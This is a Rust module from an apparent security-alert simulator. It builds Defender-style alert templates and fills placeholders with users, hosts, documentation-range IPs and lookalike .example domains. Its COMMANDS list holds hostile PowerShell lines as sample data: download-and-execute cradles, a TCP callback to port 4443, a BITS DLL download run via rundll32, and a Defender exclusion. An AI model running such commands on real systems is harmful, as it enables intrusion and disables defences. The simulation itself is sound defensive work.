//! What one kind of alert says, with holes for the people and things of one case.
//!
//! The holes are `{user}`, `{host}`, `{target}` (another machine), `{ip}`, `{hex}`,
//! `{domain}` and `{encoded}` (a command for `powershell -enc`). Which alerts exist is
//! told in `incidents` and `noise`.

use crate::sim::population::directory::Device;
use crate::sim::population::directory::Directory;
use crate::sim::population::directory::User;
use crate::sim::population::seeds::encoded_command;
use crate::sim::population::seeds::hash;
use crate::sim::population::seeds::hex;
use crate::sim::population::seeds::pick;

/// One kind of alert.
#[derive(Debug)]
pub(crate) struct Template {
    pub(crate) title: &'static str,
    pub(crate) severity: &'static str,
    pub(crate) category: &'static str,
    pub(crate) source: &'static str,
    pub(crate) techniques: &'static [&'static str],
    /// `threatFamilyName` and `threatName`.
    pub(crate) threat: Option<(&'static str, &'static str)>,
    pub(crate) description: &'static str,
    pub(crate) action: Option<&'static str>,
    /// Processes, each the parent of the next.
    pub(crate) chain: &'static [Process],
    pub(crate) items: &'static [Item],
    /// Minutes from the start of the incident to the start of the chain.
    pub(crate) rooted: i64,
    /// No device: the alert is about an account.
    pub(crate) cloud: bool,
    /// Of a product whose alerts Defender's API does not show; Graph does.
    pub(crate) elsewhere: bool,
}

/// One process of a tree.
#[derive(Debug)]
pub(crate) struct Process {
    pub(crate) file: &'static str,
    pub(crate) folder: &'static str,
    pub(crate) command: &'static str,
}

/// One thing found, other than a process or the user.
#[derive(Debug)]
pub(crate) enum Item {
    File {
        name: &'static str,
        folder: &'static str,
        status: &'static str,
    },
    /// A file known by name alone, as those of the script interface are.
    Stream(&'static str),
    Address,
    Url(&'static str),
    Registry {
        hive: &'static str,
        key: &'static str,
        name: &'static str,
        value: &'static str,
        kind: &'static str,
    },
    /// A kind of evidence this API does not document.
    Mailbox,
}

/// What most kinds have in common.
pub(crate) const PLAIN: Template = Template {
    title: "",
    severity: "Medium",
    category: "SuspiciousActivity",
    source: "WindowsDefenderAtp",
    techniques: &[],
    threat: None,
    description: "",
    action: None,
    chain: &[],
    items: &[],
    rooted: 0,
    cloud: false,
    elsewhere: false,
};

/// Who and what fills the holes of one case.
pub(crate) struct Cast<'a> {
    pub(crate) directory: &'a Directory,
    pub(crate) device: &'a Device,
    pub(crate) user: &'a User,
    /// Shared by the alerts of one incident, so they name the same addresses and files.
    pub(crate) seed: u64,
}

const DOMAINS: [&str; 6] = [
    "cdn-update.example",
    "files.micros0ft-support.example",
    "invoice-portal.example",
    "telemetry.wide-world-imp0rters.example",
    "xn--cntoso-2ya.example",
    "a1.tailspin-static.example",
];
const COMMANDS: [&str; 4] = [
    "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')",
    "$c=New-Object Net.Sockets.TCPClient('{ip}',4443);$s=$c.GetStream();while($true){sleep 5}",
    "Start-BitsTransfer -Source https://{domain}/{hex}.dat -Destination $env:TEMP\\{hex}.dll; rundll32 $env:TEMP\\{hex}.dll,Start",
    "Set-MpPreference -ExclusionPath 'C:\\ProgramData'; iwr https://{domain}/stage2 -UseBasicParsing | iex",
];

impl Cast<'_> {
    /// The text with its holes filled; text without holes is only copied.
    pub(crate) fn fill(&self, text: &str) -> String {
        let mut filled = String::with_capacity(text.len() + 32);
        let mut rest = text;
        while let Some((before, after)) = rest.split_once('{') {
            filled.push_str(before);
            let found = after
                .split_once('}')
                .and_then(|(hole, after)| Some((self.hole(hole)?, after)));
            if let Some((value, after)) = found {
                filled.push_str(&value);
                rest = after;
            } else {
                // A brace that is only a brace.
                filled.push('{');
                rest = after;
            }
        }
        filled.push_str(rest);
        filled
    }

    /// The address on the other side: one of those reserved for documentation.
    pub(crate) fn address(&self) -> String {
        format!("203.0.113.{}", hash(self.seed, "ip") % 250 + 1)
    }

    fn hole(&self, name: &str) -> Option<String> {
        Some(match name {
            "user" => self.user.account.clone(),
            "host" => self.device.short_name().to_owned(),
            "target" => {
                let target = pick(&self.directory.devices, hash(self.seed, "target"));
                target.map_or_else(String::new, |device| device.short_name().to_owned())
            }
            "ip" => self.address(),
            "hex" => hex(hash(self.seed, "hex"), 8),
            "domain" => (*pick(&DOMAINS, hash(self.seed, "domain"))?).to_owned(),
            "encoded" => {
                let command = pick(&COMMANDS, hash(self.seed, "command"))?;
                encoded_command(&self.fill(command))
            }
            _ => return None,
        })
    }
}
